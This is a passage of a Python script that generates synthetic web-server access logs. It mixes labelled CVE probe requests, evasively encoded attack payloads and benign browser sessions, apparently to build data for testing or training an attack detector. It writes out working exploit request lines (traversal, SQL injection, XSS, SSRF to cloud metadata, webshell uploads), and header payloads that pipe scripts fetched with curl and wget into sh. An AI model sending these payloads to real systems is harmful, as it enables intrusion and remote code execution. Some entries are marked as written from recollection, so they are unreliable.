C('CVE-2025-54251', 'Adobe Experience Manager', 'xml-injection', 'POST', "/crx/packmgr/service/exec.json;x='x/graphql/execute/json/x'?cmd=upload&jsonInTextarea=true", 200)
C('CVE-2025-5086', 'DELMIA Apriso', 'deserialization', 'POST', '/apriso/WebServices/FlexNetOperationsService.svc/Invoke', 200)
C('CVE-2025-6204', 'DELMIA Apriso', 'file-upload', 'POST', '/Apriso/webservices/1.1/operation.svc/UploadFile?filename=375c9638-1a4e-465d-90d7-f69321315acb-xxx\\..\\..\\..\\portal\\Uploads\\r8k2p.asp', 200)
C('CVE-2025-4632', 'Samsung MagicINFO 9 Server', 'file-upload', 'POST', '/MagicInfo/servlet/SWUpdateFileUploader?fileName=./../../../../../../server/w2s9d.jsp&deviceType=MIPLAYER&deviceModelName=DEFAULT&swVer=1', 200)
C('CVE-2025-34143', 'ETQ Reliance', 'auth-bypass', 'POST', '/reliance/resources/sessions', 200)
C('CVE-2025-34141', 'ETQ Reliance', 'xss', 'GET', '/reliance/SQLConverterServlet?MySQLStm=%3C/textarea%3E%3Cimg%20src=x%20onerror=alert(document.domain)%3E', 200)
C('CVE-2025-24799', 'GLPI', 'sqli', 'POST', '/index.php/ajax/', 200)
C('CVE-2025-25034', 'SugarCRM', 'deserialization', 'POST', '/service/v4/rest.php', 200)
C('CVE-2025-27223', 'TRUfusion Enterprise', 'auth-bypass', 'GET', '/trufusionPortal/getProjectList?userId=1', 200)
C('CVE-2025-29085', 'Vipshop Saturn', 'sqli', 'GET', '/console/dashboard/executorCount?zkClusterKey=1%27-extractvalue(1,concat(0x0a,version()))--%20-', 500)
C('CVE-2025-34038', 'Weaver e-cology', 'sqli', 'GET', '/js/hrm/getdata.jsp?cmd=getSelectAllId&sql=select+547653*865674+as+id', 200)
C('CVE-2025-34040', 'Seeyon (Zhiyuan) OA', 'file-upload', 'POST', '/seeyon/wpsAssistServlet?flag=save&realFileType=../../../../ApacheJetspeed/webapps/ROOT/m4x7c.jsp&fileId=2', 200)
C('CVE-2025-34045', 'WeiPHP', 'traversal', 'POST', '/public/index.php/material/Material/_download_imgage?media_id=1&picUrl=./../config/database.php', 200)
C('CVE-2025-2712', 'Yonyou UFIDA NC', 'xss', 'GET', '/help/top.jsp?langcode=1%22%3E%3C/script%3E%3Csvg%20onload=alert(document.domain)%3E', 200)
C('CVE-2025-41646', 'Kunbus RevPi Webstatus', 'auth-bypass', 'POST', '/php/dal.php', 200)
C('CVE-2025-52665', 'Ubiquiti UniFi Access', 'broken-access-control', 'POST', '/api/ucore/backup/export', 200)
C('CVE-2025-58443', 'FOG Project', 'auth-bypass', 'GET', '/fog/service/getversion.php?url=' + OOB[0], 200)
C('CVE-2025-61666', 'Traccar', 'lfi', 'GET', '/..%5c..%5c..%5c..%5c..%5c..%5c..%5c..%5cProgram%20Files%5ctraccar%5cconf%5ctraccar.xml', 200)
C('CVE-2025-69200', 'phpMyFAQ', 'info-disclosure', 'POST', '/api/setup/backup', 200)
C('CVE-2026-23760', 'SmarterTools SmarterMail', 'auth-bypass', 'POST', '/api/v1/auth/force-reset-password', 200)
C('CVE-2025-68645', 'Zimbra Collaboration', 'lfi', 'GET', '/h/rest?javax.servlet.include.servlet_path=/WEB-INF/web.xml', 200)
C('CVE-2025-40630', 'IceWarp Mail Server', 'open-redirect', 'GET', '/%2f%5c%2f' + EVIL + '%2f..', 302)
C('CVE-2025-44148', 'MailEnable', 'xss', 'GET', '/Mondo/lang/sys/Failure.aspx?state=19753%22;}alert(document.domain);function%20test(){%22', 200)
C('CVE-2026-21859', 'Mailpit', 'ssrf', 'GET', '/proxy?url=http://127.0.0.1:8025/api/v1/info', 200)
C('CVE-2025-44137', 'MapTiler Tileserver-php', 'lfi', 'GET', '/tileserver.php/x/1/1/1?Format=/../../../../../../../../../../../../../../etc/passwd&Request=x&layer=.', 200)
C('CVE-2025-44177', 'White Star ProTop', 'traversal', 'GET', '/pt3upd/..%2f..%2f..%2f..%2fetc%2fpasswd', 200)
C('CVE-2025-1035', 'KLog Server', 'traversal', 'GET', '/actions/download.php?action=web&file=../../../etc/passwd&name=k2r9.zip', 200)
C('CVE-2025-2264', 'Santesoft Sante PACS Server', 'traversal', 'GET', '/assets/../../.HTTP/HTTP.db', 200)
C('CVE-2025-0674', 'Elber ESE DVB-S/S2', 'auth-bypass', 'GET', '/json_data/set_pwd?lev=2&pass=admin1234', 200)
C('CVE-2025-45985', 'Blink routers', 'cmdi', 'POST', '/goform/set_hidessid_cfg', 200)
C('CVE-2025-34035', 'EnGenius EnShare', 'cmdi', 'POST', '/cgi-bin/usbinteract.cgi', 200)
C('CVE-2025-34300', 'Sawtooth Lighthouse Studio', 'template-injection', 'GET', '/cgi-bin/ciwweb.pl?hid_javascript=1&hid_Random_ACARAT=[%25813*719%25]&hid_Random_ACARAT=x', 200)
C('CVE-2025-34032', 'Moodle Jmol filter', 'xss', 'GET', '/filter/jmol/js/jsmol/php/jsmol.php?call=saveFile&data=%3Cscript%3Ealert(document.domain)%3C/script%3E&mimetype=text/html', 200)
C('CVE-2025-4388', 'Liferay Portal', 'xss', 'GET', '/o/marketplace-app-manager-web/icon.jsp?iconURL=https:///%22%3E%3Cimg%20src=x%20onerror=alert(document.domain)%3E', 200)
C('CVE-2025-41393', 'Ricoh Web Image Monitor', 'xss', 'GET', '/?profile=</script><script>alert(document.domain)</script>', 200)
C('CVE-2025-5301', 'ONLYOFFICE Docs', 'xss', 'POST', '/hosting/wopi/word/edit?dchat=asdasd</script><script>alert(document.domain)</script>', 200)
C('CVE-2025-31131', 'YesWiki', 'traversal', 'GET', '/?UrkCEO/edit&theme=margot&squelette=..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd&style=margot.css', 200)
C('CVE-2025-48954', 'Discourse', 'xss', 'GET', "/auth/failure?provider=<svg/onload=alert('XSS-CVE-2025-48954')>", 200)
C('CVE-2025-47916', 'Invision Community', 'template-injection', 'POST', '/?app=core&module=system&controller=themeeditor&do=customCss', 200,
  note='the template expression is in the form body')
C('CVE-2025-48828', 'vBulletin', 'rce', 'POST', '/ajax/api/ad/replaceAdTemplate', 200,
  note='friendly-URL form of routestring=ajax/api/ad/replaceAdTemplate; the <vb:if> template is in the body')
C('CVE-2025-53833', 'LaRecipe', 'ssti', 'GET', '/docs/1.0/?{{phpinfo()}}', 200)
C('CVE-2025-49132', 'Pterodactyl Panel', 'lfi-rce', 'GET', '/locales/locale.json?locale=..%2F..%2Fconfig&namespace=app', 200)
C('CVE-2025-32429', 'XWiki', 'sqli', 'GET', '/xwiki/rest/liveData/sources/liveTable/entries?sourceParams.template=getdeleteddocuments.vm&sort=injected', 500)
C('CVE-2025-55748', 'XWiki', 'traversal', 'GET', '/bin/ssx/Main/WebHome?resource=../../WEB-INF/xwiki.cfg&minify=false', 200)
C('CVE-2025-58360', 'GeoServer', 'xxe', 'POST', '/geoserver/wfs?service=WMS&request=GetMap', 200)
C('CVE-2025-27817', 'Apache Kafka client (via Apache Druid)', 'file-read', 'POST', '/druid/indexer/v1/sampler?for=connect', 200)
C('CVE-2025-41243', 'Spring Cloud Gateway', 'spel-injection', 'POST', '/actuator/gateway/routes/hacktest', 201)
C('CVE-2025-24963', 'Vitest', 'file-read', 'GET', '/__screenshot-error?file=/etc/passwd', 200)
C('CVE-2025-31486', 'Vite', 'lfi', 'GET', '/etc/passwd?.svg?.wasm?init', 200)
C('CVE-2025-64764', 'Astro', 'xss', 'GET', '/_server-islands/Island?e=file&p=&s={"k3":"<img+src=x+onerror=alert(0)>"}', 200)
C('CVE-2025-24354', 'imgproxy', 'ssrf', 'GET', '/unsafe/plain/http://169.254.169.254/latest/meta-data/', 200)
C('CVE-2025-10211', 'ChanCMS', 'ssrf', 'POST', '/cms/collect/getArticle', 200)
C('CVE-2025-1302', 'JSONPath Plus', 'rce', 'POST', '/api/query', 200)
C('CVE-2024-2961', 'PHP on glibc (iconv ISO-2022-CN-EXT)', 'file-read-rce', 'GET', '/index.php?page=php://filter/read=convert.iconv.UTF-8.ISO-2022-CN-EXT/resource=/etc/passwd', 200,
  source='Ambionics "Iconv, set the charset to RCE" (CNEXT, cfreal) write-up and cnext-exploits [written from recollection]')
# --- AI / LLM / agents / ML-ops
C('CVE-2025-0868', 'DocsGPT', 'rce', 'POST', '/api/remote', 200)
C('CVE-2025-51482', 'Letta', 'rce', 'POST', '/v1/tools/run', 200)
C('CVE-2025-49596', 'MCP Inspector', 'rce', 'GET', '/sse?transportType=stdio&command=touch&args=%2Ftmp%2Fexploited-from-the-browser', 200)
C('CVE-2025-55523', 'Agent Zero', 'file-download', 'GET', '/download_work_dir_file?path=/etc/passwd', 200)
C('CVE-2025-56520', 'Dify', 'ssrf', 'GET', '/console/api/remote-files/http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F', 200)
C('CVE-2025-68613', 'n8n', 'rce', 'POST', '/rest/workflows', 200)
C('CVE-2026-21858', 'n8n', 'file-read', 'POST', '/form/a3f9c2e1-7b4d-4e8a-9c6f-2d1b0e5a7c3f', 200,
  source='Cyera "Ni8mare" write-up for CVE-2026-21858 (Content-Type confusion on Form webhook); nuclei-templates http/cves/2026/CVE-2026-21858.yaml is a version check [written from recollection]')
C('CVE-2025-55161', 'Stirling-PDF', 'ssrf', 'POST', '/api/v1/convert/markdown/pdf', 200)

# ================================================================= generic techniques in evasive encodings
PATT = 'PayloadsAllTheThings'
OWASP_EV = 'OWASP XSS Filter Evasion Cheat Sheet'
SQLMAP = 'sqlmap tamper'
# --- in the query or path
G('traversal', 'double-urlencoded', '/download?file=%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd', 400, PATT + ' Directory Traversal (double URL encoding)')
G('traversal', 'iis-u-encoding', '/static/..%u2216..%u2216..%u2216..%u2216windows%u2216win.ini', 400, PATT + ' Directory Traversal (16-bit Unicode %u2216)')
G('traversal', 'overlong-utf8-path', '/images/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', 400, 'dotdotpwn overlong UTF-8 dot', place='path')
G('traversal', 'nested-dotdot', '/api/files?path=....//....//....//....//etc/passwd', 200, PATT + ' Directory Traversal (non-recursive filter bypass)')
G('traversal', 'encoded-backslash', '/Download.aspx?f=..%5c..%5c..%5cweb.config', 200, PATT + ' Directory Traversal (Windows backslash)')
G('traversal', 'percent-dot-path', '/assets/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/shadow', 400, PATT + ' Directory Traversal (%2e)', place='path')
G('sqli', 'versioned-comment-mixed-case', '/products.php?cat=1/*!50000UnIoN*/+/*!50000SeLeCt*/+1,2,concat(user(),0x3a,version()),4--+-', 200, SQLMAP + ' versionedmorekeywords + randomcase')
G('sqli', 'double-urlencoded', '/item?id=1%2527%2520AND%25201%253D1--%2520-', 200, SQLMAP + ' chardoubleencode')
G('sqli', 'iis-u-encoding', '/news.asp?id=1%u0027%u0020or%u00201%u003d1--', 500, SQLMAP + ' charunicodeencode')
G('sqli', 'mssql-waitfor-mixed-case', '/Login.aspx?ReturnUrl=%2f&user=a%27;WaItFoR+DeLaY+%270:0:5%27--', 200, SQLMAP + ' randomcase (time-based, MSSQL)')
G('sqli', 'pg-stacked-sleep', '/api/v1/report?sort=name;SELECT+PG_SLEEP(5)--', 500, PATT + ' PostgreSQL injection (stacked queries)')
G('sqli', 'path-segment-sleep', '/product/12%20AND%20SLEEP(5)', 200, PATT + ' SQL injection in a REST path id', place='path')
G('xss', 'double-urlencoded', '/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E', 200, OWASP_EV + ' (double encoding)')
G('xss', 'iis-u-encoding', '/search.aspx?q=%u003Csvg%u0020onload%u003Dalert(1)%u003E', 200, OWASP_EV + ' (%u encoding, IIS)')
G('xss', 'mixed-case-script', '/?s=%3CScRiPt%3Eprompt(document.domain)%3C/sCrIpT%3E', 200, OWASP_EV + ' (case variation)')
G('xss', 'html-entity-handler', '/comment?text=%3Cimg+src%3Dx+onerror%3D%26%23x61%3Blert(1)%3E', 200, OWASP_EV + ' (HTML entity inside the handler)')
G('xss', 'javascript-uri-mixed-case', '/redirect?url=JaVaScRiPt:alert(document.cookie)', 302, OWASP_EV + ' (javascript: scheme, case variation)')
G('cmdi', 'double-urlencoded-pipe', '/ping.php?host=127.0.0.1%257Cid', 200, 'commix (double URL encoding of the separator)')
G('cmdi', 'newline-separator', '/cgi-bin/diag.cgi?ip=8.8.8.8%0Acat%20/etc/passwd', 200, PATT + ' Command Injection (newline separator)')
G('cmdi', 'ifs-space', '/api/ping?target=127.0.0.1;cat${IFS}/etc/passwd', 200, PATT + ' Command Injection ($IFS instead of space)')
G('ssti', 'double-urlencoded', '/greeting?name=%257B%257B7*7%257D%257D', 200, 'SSTImap / ' + PATT + ' SSTI (double URL encoding)')
G('lfi', 'php-filter-mixed-case', '/index.php?page=PhP://FiLtEr/convert.base64-encode/resource=config', 200, PATT + ' File Inclusion (php://filter, case variation)')
G('lfi', 'nul-byte', '/index.php?lang=../../../../etc/passwd%00', 200, PATT + ' File Inclusion (null byte)')
G('ssrf', 'percent-encoded-ip', '/proxy?url=http://%31%36%39.%32%35%34.%31%36%39.%32%35%34/latest/meta-data/', 200, PATT + ' SSRF (URL-encoded address)')
G('ssrf', 'ipv6-mapped', '/fetch?u=http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/security-credentials/', 200, PATT + ' SSRF (IPv4-mapped IPv6)')
G('xxe', 'query-dtd', '/soap/validate?xml=' + q('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'), 200, PATT + ' XXE (classic file read)')
# --- in the User-Agent
G('sqli', 'ua-or-true', '/', 200, PATT + ' SQL injection in a header', place='ua', ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64)' OR 1=1-- -")
G('sqli', 'ua-sleep-subselect', '/index.php', 200, SQLMAP + ' --level 3 User-Agent injection', place='ua', ua="' or (select*from(select(sleep(10)))a) or '")
G('sqli', 'ua-mssql-waitfor', '/', 200, PATT + ' MSSQL time-based in a header', place='ua', ua="1';WAITFOR DELAY '0:0:5'--")
G('sqli', 'ua-pg-sleep', '/login', 200, PATT + ' PostgreSQL time-based in a header', place='ua', ua="'||pg_sleep(5)--")
G('xss', 'ua-script', '/', 200, OWASP_EV + ' (stored via logged User-Agent)', place='ua', ua='<script>alert(1)</script>')
G('xss', 'ua-img-onerror', '/contact', 200, OWASP_EV + ' (attribute break-out)', place='ua', ua='Mozilla/5.0"><img src=x onerror=alert(document.domain)>')
G('xss', 'ua-fromcharcode-mixed-case', '/', 200, OWASP_EV + ' (String.fromCharCode, case variation)', place='ua', ua='<sCrIpT>alert(String.fromCharCode(88,83,83))</sCrIpT>')
G('cmdi', 'ua-subshell-curl', '/', 200, PATT + ' Command Injection ($() substitution)', place='ua', ua='$(curl -s http://198.18.23.9/s.sh|sh)')
G('cmdi', 'ua-backtick-wget', '/', 200, PATT + ' Command Injection (backticks)', place='ua', ua='Mozilla/5.0 `wget http://198.18.23.9/bot.sh -O-|sh`')
G('ssti', 'ua-polyglot', '/', 200, 'SSTImap / tplmap detection polyglot in a header', place='ua', ua='${7*7}{{7*7}}#{7*7}')
G('ssti', 'ua-erb', '/', 200, PATT + ' SSTI (Ruby ERB)', place='ua', ua='<%= `id` %>')
G('php-injection', 'ua-log-poisoning', '/', 200, PATT + ' File Inclusion (log poisoning via User-Agent)', place='ua', ua="<?php system($_GET['c']); ?>")
G('traversal', 'ua-dotdot', '/', 200, 'ffuf/wfuzz header fuzzing with a traversal list', place='ua', ua='../../../../../../../../etc/passwd')
# --- in the Referer
G('sqli', 'referer-sleep', '/', 200, SQLMAP + ' --level 3 Referer injection', place='referer', ref="https://www.example.com/' AND (SELECT 1 FROM (SELECT(SLEEP(5)))x)-- -")
G('sqli', 'referer-union-mixed-case', '/', 200, SQLMAP + ' randomcase in Referer', place='referer', ref='https://shop.example/item?id=1 UnIoN SeLeCt null,@@version--')
G('sqli', 'referer-double-urlencoded', '/', 200, SQLMAP + ' chardoubleencode in Referer', place='referer', ref='https://shop.example/?id=1%2527%2520OR%25201%253D1')
G('xss', 'referer-javascript-uri', '/', 200, OWASP_EV + ' (Referer reflected on an error page)', place='referer', ref='javascript:alert(document.domain)//')
G('xss', 'referer-breakout', '/404', 404, OWASP_EV + ' (Referer reflected in a back link)', place='referer', ref='https://evil.example/"><script>alert(1)</script>')
G('xss', 'referer-encoded-svg', '/', 200, OWASP_EV + ' (encoded svg onload)', place='referer', ref='https://shop.example/search?q=%3Csvg/onload=alert(1)%3E')
G('cmdi', 'referer-wget', '/', 200, PATT + ' Command Injection in the Referer', place='referer', ref='http://x.example/;wget http://198.18.23.9/x.sh;sh x.sh')
G('traversal', 'referer-dotdot', '/', 200, 'ffuf/wfuzz header fuzzing with a traversal list', place='referer', ref='../../../../../../etc/passwd')
G('ssti', 'referer-jinja', '/', 200, PATT + ' SSTI (Jinja2 probe)', place='referer', ref="https://shop.example/?q={{7*'7'}}")
G('php-injection', 'referer-short-tag', '/', 200, PATT + ' File Inclusion (log poisoning via Referer)', place='referer', ref='<?=`$_GET[0]`?>')
G('ssrf', 'referer-metadata', '/', 200, 'PortSwigger Web Security Academy blind SSRF via Referer (analytics fetch)', place='referer', ref='http://169.254.169.254/latest/meta-data/iam/security-credentials/')
G('xxe', 'ua-dtd', '/', 200, PATT + ' XXE (entity in a logged header)', place='ua', ua='<!DOCTYPE x [<!ENTITY % r SYSTEM "http://198.18.23.9/x.dtd"> %r;]>')

# ================================================================= benign traffic
# Browser visits to the kinds of applications the CVE probes above target, with the
# legitimate requests that look most like them (admin-ajax actions, REST routes,
# Grafana queries, Gradio /file= URLs, XWiki REST search, n8n forms, SharePoint
# layouts pages, WMS GetMap, Keycloak auth redirects, searches with quotes and brackets).
WP = 'https://blog.example'
SHOP = 'https://shop.example'
GRAF = 'https://grafana.example'
GR = 'https://demo-space.example'
WIKI = 'https://wiki.example'
MAIL = 'https://mail.example'
N8N = 'https://forms.example'
SP = 'https://intranet.example'
MAP = 'https://maps.example'
SSO = 'https://id.example'

def mine(lst, i, n):
    return lst[i::n] or [lst[i % len(lst)]]

def wp_shop(r, i, n):
    prod = mine(['linen-shirt-white', 'merino-beanie', 'canvas-tote-bag', 'wool-socks-3-pack'], i, n)[0]
    term = mine(['linen+shirt', "men%27s+boots", 'tote+bag', 'socks'], i, n)[0]
    return [('/', 'GET', 200, r.choice(['-', 'https://www.google.com/'])),
            ('/wp-content/themes/storefront/style.css?ver=4.6.1', 'GET', 200, SHOP + '/'),
            ('/wp-includes/js/jquery/jquery.min.js?ver=3.7.1', 'GET', 200, SHOP + '/'),
            ('/?wc-ajax=get_refreshed_fragments', 'POST', 200, SHOP + '/'),
            ('/?s=' + term + '&post_type=product', 'GET', 200, SHOP + '/'),
            ('/product/' + prod + '/', 'GET', 200, SHOP + '/?s=' + term + '&post_type=product'),
            ('/my-account/', 'POST', 302, SHOP + '/my-account/'),
            ('/wp-admin/admin-ajax.php?action=woocommerce_get_variation&product_id=412', 'GET', 200, SHOP + '/product/' + prod + '/')]

def wp_blog(r, i, n):
    slug = mine(['2026/01/winter-garden-checklist', '2026/01/sourdough-basics', '2025/12/year-in-review', '2026/02/bike-commuting'], i, n)[0]
    return [('/' + slug + '/', 'GET', 200, r.choice(['-', 'https://duckduckgo.com/', 'https://t.co/'])),
            ('/wp-content/themes/twentytwentyfive/style.css?ver=1.3', 'GET', 200, WP + '/' + slug + '/'),
            ('/wp-json/wp/v2/posts?per_page=5&_embed=1&categories=7', 'GET', 200, WP + '/' + slug + '/'),
            ('/?s=compost+bin', 'GET', 200, WP + '/' + slug + '/'),
            ('/wp-login.php', 'GET', 200, WP + '/' + slug + '/'),
            ('/wp-login.php', 'POST', 302, WP + '/wp-login.php'),
            ('/wp-admin/admin-ajax.php', 'POST', 200, WP + '/wp-admin/'),
            ('/wp-admin/edit.php?post_type=post&orderby=date&order=desc', 'GET', 200, WP + '/wp-admin/')]

def grafana(r, i, n):
    dash = mine(['/d/rYdddlPWk/node-exporter-full?orgId=1&refresh=30s', '/d/nginx01/nginx-overview?orgId=1&from=now-6h&to=now',
                 '/d/k8s-cluster/kubernetes-cluster?orgId=1&var-namespace=prod', '/d/pg-db/postgres?orgId=1&var-instance=db1:9187'], i, n)[0]
    return [('/login', 'GET', 200, '-'),
            ('/public/build/runtime.4a1c2b.js', 'GET', 200, GRAF + '/login'),
            ('/login', 'POST', 200, GRAF + '/login'),
            (dash, 'GET', 200, GRAF + '/'),
            ('/api/ds/query?ds_type=prometheus&requestId=Q114', 'POST', 200, GRAF + dash),
            ('/api/search?query=nginx&starred=false', 'GET', 200, GRAF + dash),
            ('/api/annotations?from=1770163200000&to=1770184800000&limit=100&matchAny=false&dashboardUID=rYdddlPWk', 'GET', 200, GRAF + dash)]

def gradio(r, i, n):
    h = '%08x%08x' % (r.getrandbits(32), r.getrandbits(32))
    return [('/', 'GET', 200, r.choice(['-', 'https://huggingface.co/spaces'])),
            ('/assets/index-B7xQ2k9a.js', 'GET', 200, GR + '/'),
            ('/config', 'GET', 200, GR + '/'),
            ('/gradio_api/upload?upload_id=' + h[:10], 'POST', 200, GR + '/'),
            ('/gradio_api/queue/join?', 'POST', 200, GR + '/'),
            ('/gradio_api/queue/data?session_hash=' + h[:11], 'GET', 200, GR + '/'),
            ('/gradio_api/file=/tmp/gradio/' + h + '/image.webp', 'GET', 200, GR + '/')]

def wiki_search(r, i, n):
    term = mine(['vpn+setup', 'onboarding+checklist', 'expense+policy', 'printer+3rd+floor'], i, n)[0]
    return [('/bin/view/Main/', 'GET', 200, '-'),
            ('/bin/skin/skins/flamingo/style.min.css', 'GET', 200, WIKI + '/bin/view/Main/'),
            ('/bin/login/XWiki/XWikiLogin?xredirect=%2Fbin%2Fview%2FMain%2F', 'GET', 200, WIKI + '/bin/view/Main/'),
            ('/bin/loginsubmit/XWiki/XWikiLogin?xredirect=%2Fbin%2Fview%2FMain%2F', 'POST', 302, WIKI + '/bin/login/XWiki/XWikiLogin'),
            ('/xwiki/rest/wikis/xwiki/search?q=' + term + '&scope=title&number=10', 'GET', 200, WIKI + '/bin/view/Main/'),
            ('/bin/view/IT/VPN/?srid=Xk2pQ', 'GET', 200, WIKI + '/bin/view/Main/Search?text=' + term),
            ('/bin/download/IT/VPN/WebHome/client-setup.pdf?rev=1.4', 'GET', 200, WIKI + '/bin/view/IT/VPN/')]

def webmail(r, i, n):
    return [('/', 'GET', 200, '-'),
            ('/skins/elastic/styles/styles.min.css?s=1736938000', 'GET', 200, MAIL + '/'),
            ('/?_task=login', 'POST', 302, MAIL + '/'),
            ('/?_task=mail&_mbox=INBOX', 'GET', 200, MAIL + '/'),
            ('/?_task=mail&_action=search&_q=' + mine(['invoice', 'O%27Brien', 'meeting+notes', '%22quarterly+report%22'], i, n)[0] + '&_headers=text&_filter=ALL&_scope=base&_mbox=INBOX&_remote=1', 'GET', 200, MAIL + '/?_task=mail&_mbox=INBOX'),
            ('/?_task=mail&_uid=4182&_mbox=INBOX&_action=show', 'GET', 200, MAIL + '/?_task=mail&_mbox=INBOX'),
            ('/?_task=mail&_action=get&_uid=4182&_mbox=INBOX&_part=2&_download=1', 'GET', 200, MAIL + '/?_task=mail&_uid=4182&_mbox=INBOX&_action=show')]

def n8n_form(r, i, n):
    fid = mine(['c2d9e8a1-44b3-4f0e-8a5d-91f3b6c7e2a4', '7a1f0c3e-2b9d-4e6f-a8c1-5d3e9b0f2a7c', '0e4b7d2a-9c1f-4a3e-b6d8-2f5c1a9e7b30', 'b5c3a9e2-6d1f-4b8a-9e0c-3a7d2f1b4c68'], i, n)[0]
    return [('/form/' + fid, 'GET', 200, r.choice(['https://mail.google.com/', 'https://www.linkedin.com/', '-'])),
            ('/assets/form-trigger.css', 'GET', 200, N8N + '/form/' + fid),
            ('/assets/form-trigger.js', 'GET', 200, N8N + '/form/' + fid),
            ('/form/' + fid, 'POST', 200, N8N + '/form/' + fid),
            ('/form-waiting/2417', 'GET', 200, N8N + '/form/' + fid)]

def sharepoint(r, i, n):
    site = mine(['hr', 'finance', 'it', 'marketing'], i, n)[0]
    home = '/sites/%s/SitePages/Home.aspx' % site
    return [('/_forms/default.aspx?ReturnUrl=%2f_layouts%2f15%2fAuthenticate.aspx%3fSource%3d%252Fsites%252F' + site + '&Source=%2Fsites%2F' + site, 'GET', 200, '-'),
            ('/_forms/default.aspx?ReturnUrl=%2f_layouts%2f15%2fAuthenticate.aspx', 'POST', 302, SP + '/_forms/default.aspx'),
            (home, 'GET', 200, SP + '/_forms/default.aspx'),
            ('/_layouts/15/1033/styles/Themable/corev15.css?rev=VY1u6zYwh7dx3jmoWPGlvA%3D%3D', 'GET', 200, SP + home),
            ('/_layouts/15/osssearchresults.aspx?u=https%3A%2F%2Fintranet.example%2Fsites%2F' + site + '&k=' + mine(['holiday+policy', 'parental+leave', 'password+reset', 'brand+guidelines'], i, n)[0], 'GET', 200, SP + home),
            ('/sites/%s/Shared%%20Documents/Forms/AllItems.aspx' % site, 'GET', 200, SP + home),
            ('/_layouts/15/download.aspx?SourceUrl=%2Fsites%2F' + site + '%2FShared%20Documents%2Fhandbook-2026.pdf', 'GET', 200, SP + '/sites/%s/Shared%%20Documents/Forms/AllItems.aspx' % site)]

def shop_special_search(r, i, n):
    terms = mine(['o%27neill+jacket', 'shoes+size+%3C40', 'c%2B%2B+primer+book', '50%25+off+sale', '%22red+dress%22+-maxi', 'kids%27+rain+boots+(blue)',
                  'tv+55%22', 'jack+%26+jones'], i, n)
    out = [('/', 'GET', 200, '-'), ('/static/css/main.3f2a.css', 'GET', 200, SHOP + '/'),
           ('/customer/account/login/', 'GET', 200, SHOP + '/'), ('/customer/account/loginPost/', 'POST', 302, SHOP + '/customer/account/login/')]
    prev = SHOP + '/'
    for t in terms:
        out.append(('/catalogsearch/result/?q=' + t, 'GET', 200, prev))
        prev = SHOP + '/catalogsearch/result/?q=' + t
    return out + [('/rain-boots-kids-blue.html', 'GET', 200, prev), ('/media/catalog/product/cache/1/image/400x/rain-boots.jpg', 'GET', 200, SHOP + '/rain-boots-kids-blue.html')]

def geo_map(r, i, n):
    bbox = mine(['-124.73,24.96,-66.97,49.37', '5.87,47.27,15.04,55.06', '-9.5,35.9,3.3,43.8', '112.9,-43.7,153.6,-10.6'], i, n)[0]
    return [('/', 'GET', 200, '-'), ('/static/ol.css', 'GET', 200, MAP + '/'), ('/static/app.js', 'GET', 200, MAP + '/'),
            ('/geoserver/wms?SERVICE=WMS&VERSION=1.1.1&REQUEST=GetMap&FORMAT=image%2Fpng&TRANSPARENT=true&LAYERS=topp%3Astates&STYLES=&SRS=EPSG%3A4326&WIDTH=768&HEIGHT=330&BBOX=' + bbox, 'GET', 200, MAP + '/'),
            ('/geoserver/wfs?service=WFS&version=2.0.0&request=GetFeature&typeNames=topp:states&count=20&outputFormat=application/json&CQL_FILTER=STATE_NAME%20LIKE%20%27New%25%27', 'GET', 200, MAP + '/'),
            ('/search?q=' + mine(['new+york', 'berlin', 'madrid', 'sydney'], i, n)[0], 'GET', 200, MAP + '/'),
            ('/login', 'POST', 302, MAP + '/')]

def sso_login(r, i, n):
    state = '%016x' % r.getrandbits(64)
    return [('/', 'GET', 302, '-'),
            ('/realms/corp/protocol/openid-connect/auth?client_id=portal&redirect_uri=https%3A%2F%2Fapp.example%2Fauth%2Fcallback&response_type=code&scope=openid+profile+email&state=' + state + '&nonce=' + state[::-1], 'GET', 200, 'https://app.example/'),
            ('/resources/k3c9x/login/keycloak.v2/css/styles.css', 'GET', 200, SSO + '/realms/corp/protocol/openid-connect/auth'),
            ('/realms/corp/login-actions/authenticate?session_code=' + state + '&execution=a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d&client_id=portal&tab_id=Qx7kP2', 'POST', 302, SSO + '/realms/corp/protocol/openid-connect/auth'),
            ('/realms/corp/account/?referrer=portal&referrer_uri=https%3A%2F%2Fapp.example%2F', 'GET', 200, 'https://app.example/'),
            ('/realms/corp/protocol/openid-connect/logout?post_logout_redirect_uri=https%3A%2F%2Fapp.example%2F&client_id=portal', 'GET', 302, 'https://app.example/settings')]

BENIGN_KINDS = [('wordpress-shop', wp_shop, 4), ('wordpress-blog-admin', wp_blog, 4), ('grafana-dashboard', grafana, 4),
                ('gradio-space', gradio, 4), ('wiki-rest-search', wiki_search, 4), ('webmail-search', webmail, 4),
                ('n8n-form-submit', n8n_form, 3), ('sharepoint-intranet', sharepoint, 4), ('shop-search-special-chars', shop_special_search, 4),
                ('geoserver-map', geo_map, 3), ('keycloak-sso', sso_login, 3)]

# ================================================================= write
def esc(s):
    out = []
    for ch in s.encode('utf-8'):
        if ch == 0x22 or ch == 0x5c or ch < 0x20 or ch > 0x7e:
            out.append('\\x%02X' % ch)
        else:
            out.append(chr(ch))
    return ''.join(out)

SIZES = {200: (1100, 38000), 201: (40, 180), 301: (162, 162), 302: (0, 154), 304: (0, 0), 400: (150, 157), 403: (153, 153),
         404: (153, 555), 405: (157, 157), 500: (177, 4200)}

def size(r, st, target=''):
    lo, hi = SIZES[st]
    if st == 200 and any(target.split('?')[0].endswith(x) for x in ('.css', '.js', '.svg', '.png', '.jpg', '.webp', '.pdf')):
        return r.randint(2400, 160000)
    return r.choice([lo, hi]) if st in (302, 404, 400) else (lo if lo == hi else r.randint(lo, hi))

def line(ip, t, request, st, sz, ref, ua):
    return '%s - - [%s] "%s" %d %d "%s" "%s"' % (ip, t.strftime('%d/%b/%Y:%H:%M:%S +0000'), request, st, sz, esc(ref), esc(ua))

# same-site pages (forged) for the ~8% of plain attacks that send one
